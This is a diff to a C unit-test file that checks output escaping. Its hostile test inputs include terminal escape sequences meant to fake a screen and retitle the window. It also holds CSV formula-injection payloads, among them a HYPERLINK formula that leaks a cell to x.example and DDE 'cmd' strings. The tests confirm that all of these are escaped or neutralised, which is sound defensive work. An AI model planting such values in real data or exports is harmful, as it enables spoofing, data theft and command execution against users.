@@ -54,8 +54,9 @@ test_output_display_width_counts_columns(void **state)
 		{"\xE6\x97\xA5\xE6\x9C\xAC", 4},             /* 日本: wide */
 		{"\xEA\xB0\x80", 2},                         /* 가: Hangul, wide */
 		{"\xF0\x9F\x98\x80", 2},                     /* 😀: wide */
-		{"a\x01" "b", 3},                            /* control: one column (U+FFFD) */
-		{"a\xFF" "b", 3},                            /* invalid byte: one column */
+		{"a\x01" "b", 8},                            /* control: shown as \u0001 */
+		{"a\xFF" "b", 6},                            /* invalid byte: shown as \xff */
+		{"a\n\tb", 6},                               /* \n and \t */
 		{"\xE2\x80\x8B", 0},                         /* zero width space */
 	};
 
@@ -189,7 +190,7 @@ test_output_control_characters_and_bad_utf8_never_reach_the_terminal(void **stat
 	assert_null(strchr(out, '\x07'));
 	assert_null(strchr(out, '\r'));
 	assert_null(strstr(out, "\xFF"));
-	assert_non_null(strstr(out, "Red\xEF\xBF\xBD[31m alert\xEF\xBF\xBD \xEF\xBF\xBD\xEF\xBF\xBD end"));
+	assert_non_null(strstr(out, "Red\\u001b[31m alert\\u0007 \\xff\\xfe end\\r\\n"));
 	/* Headers, titles and footers are text too (a title may name an
 	 * officer as typed); a footer keeps its line breaks. */
 	hdr = render(h, CW_FMT_TABLE, 0, false);
@@ -202,8 +203,8 @@ test_output_control_characters_and_bad_utf8_never_reach_the_terminal(void **stat
 		hdr = render(titled, CW_FMT_TABLE, 0, false);
 		assert_null(strchr(hdr, '\x1b'));
 		assert_null(strchr(hdr, '\x07'));
-		assert_non_null(strstr(hdr, "Worklist of \xEF\xBF\xBD[2Jmallory\xEF\xBF\xBD\n"));
-		assert_non_null(strstr(hdr, "total 3\nflag:\xEF\xBF\xBD raised\n"));
+		assert_non_null(strstr(hdr, "Worklist of \\u001b[2Jmallory\\xc0\n"));
+		assert_non_null(strstr(hdr, "total 3\nflag:\\u0007 raised\n"));
 		cw_table_free(titled);
 	}
 	/* CSV carries the stored text exactly; JSON escapes it. */
@@ -364,6 +365,117 @@ test_output_format_names(void **state)
 	assert_int_equal(cw_format_parse(NULL, false), -1);
 }
 
+/* Write s with cw_text_put into a string (caller frees). */
+static char *
+text_put(const char *s, const char *indent)
+{
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&buf, &len);
+
+	assert_non_null(f);
+	cw_text_put(f, s, indent);
+	fclose(f);
+	return buf;
+}
+
+/* The record an attacker stores: clear the screen, home the cursor, print
+ * a fake verdict, retitle the window, and the same again with 8-bit C1
+ * controls (CSI U+009B, OSC U+009D, ST U+009C). */
+#define HOSTILE "Ashfield\x1b[2J\x1b[HALL CLEAR\x1b]0;owned\x07\r\xC2\x9B" "2J\xC2\x9D" "0;t\xC2\x9C\x7F end"
+
+static void
+test_output_stored_text_is_shown_with_visible_escapes(void **state)
+{
+	static const struct cw_col cols[] = {{"name", "Provider", false}, {"n", "N", true}};
+	const char *cells[2] = {HOSTILE, "1"};
+	struct cw_table *t = table1(cols, 2, cells);
+	char *one, *lines, *table, *json, buf[64];
+
+	(void)state;
+	/* One line (a name): everything escaped, newline and tab included. */
+	one = text_put(HOSTILE "\n\tnext", NULL);
+	assert_string_equal(one, "Ashfield\\u001b[2J\\u001b[HALL CLEAR\\u001b]0;owned\\u0007\\r"
+				 "\\u009b2J\\u009d0;t\\u009c\\u007f end\\n\\tnext");
+	/* Multi-line free text under a heading: newlines and tabs kept, each
+	 * line indented; CR and the rest still escaped. */
+	lines = text_put("first line\r\nsecond\tcolumn\n\x1b[31mthird\xFF", "    ");
+	assert_string_equal(lines, "first line\\r\n    second\tcolumn\n    \\u001b[31mthird\\xff");
+	/* Into a buffer, cut before an escape that does not fit. */
+	assert_string_equal(cw_text_escape("ab\x1b[2J", buf, sizeof(buf)), "ab\\u001b[2J");
+	assert_string_equal(cw_text_escape("ab\x1b[2J", buf, 8), "ab");
+	assert_string_equal(cw_text_escape("caf\xC3\xA9\x9B", buf, 6), "caf\xC3\xA9");
+	assert_string_equal(cw_text_escape(NULL, buf, sizeof(buf)), "");
+	/* The table shows the same escapes, aligned by their width. */
+	table = render(t, CW_FMT_TABLE, 0, false);
+	for (const char *p = table; *p; p++)
+		if ((unsigned char)*p < 0x20 && *p != '\n')
+			fail_msg("raw control character 0x%02x in the table:\n%s", (unsigned char)*p, table);
+	assert_null(strstr(table, "\xC2\x9B"));
+	assert_null(strstr(table, "\x7F"));
+	assert_non_null(strstr(table, "Ashfield\\u001b[2J\\u001b[HALL CLEAR\\u001b]0;owned\\u0007\\r"
+				      "\\u009b2J\\u009d0;t\\u009c\\u007f end  1\n"));
+	/* JSON escapes C1 and DEL too, so JSON on a terminal is safe. */
+	json = render(t, CW_FMT_JSON, 0, false);
+	assert_string_equal(json, "[\n {\"name\": \"Ashfield\\u001b[2J\\u001b[HALL CLEAR\\u001b]0;owned"
+				  "\\u0007\\r\\u009b2J\\u009d0;t\\u009c\\u007f end\", \"n\": 1}\n]\n");
+	free(one);
+	free(lines);
+	free(table);
+	free(json);
+	cw_table_free(t);
+}
+
+static void
+test_output_csv_cells_that_look_like_formulas_are_neutralised(void **state)
+{
+	static const struct cw_col cols[] = {{"name", "Name", false}, {"score", "Score", true}};
+	const char *rows[][2] = {
+		{"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "-3.5"},
+		{"+1+1", "-12"},
+		{"-2+3+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0"},
+		{"@SUM(A1:A9)", "=1+1"},
+		{"\tTabbed", "+5"},
+		{"\rReturn", "12.25"},
+		{"Plain - dash later", "-.5"},
+	};
+	struct cw_table *t = cw_table_new(NULL, cols, 2);
+	char *csv, *buf = NULL;
+	size_t len = 0;
+	FILE *f;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
+		assert_true(cw_table_add(t, rows[i]));
+	csv = render(t, CW_FMT_CSV, 0, false);
+	/* Text that a spreadsheet would run gets a leading ' and quotes; a
+	 * plain number in the numeric column stays a number; anything else
+	 * in that column is text like any other. */
+	assert_string_equal(csv, "name,score\n"
+				 "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",-3.5\n"
+				 "\"'+1+1\",-12\n"
+				 "\"'-2+3+cmd|' /C calc'!A0\",\"'-1+cmd|' /C calc'!A0\"\n"
+				 "\"'@SUM(A1:A9)\",\"'=1+1\"\n"
+				 "\"'\tTabbed\",\"'+5\"\n"
+				 "\"'\rReturn\",12.25\n"
+				 "Plain - dash later,\"'-.5\"\n");
+	/* cw_csv_field alone knows no column: a leading minus is text. */
+	f = open_memstream(&buf, &len);
+	assert_non_null(f);
+	cw_csv_field(f, "-1");
+	fputc(',', f);
+	cw_csv_field(f, "");
+	fputc(',', f);
+	cw_csv_field(f, NULL);
+	fputc(',', f);
+	cw_csv_field(f, "ok");
+	fclose(f);
+	assert_string_equal(buf, "\"'-1\",,,ok");
+	free(buf);
+	free(csv);
+	cw_table_free(t);
+}
+
 int
 main(void)
 {
@@ -379,6 +491,8 @@ main(void)
 		cmocka_unit_test(test_output_colour_only_when_asked_and_never_with_no_color),
 		cmocka_unit_test(test_output_width_comes_from_columns_or_the_terminal),
 		cmocka_unit_test(test_output_format_names),
+		cmocka_unit_test(test_output_stored_text_is_shown_with_visible_escapes),
+		cmocka_unit_test(test_output_csv_cells_that_look_like_formulas_are_neutralised),
 	};
 
 	setlocale(LC_CTYPE, "C.UTF-8");
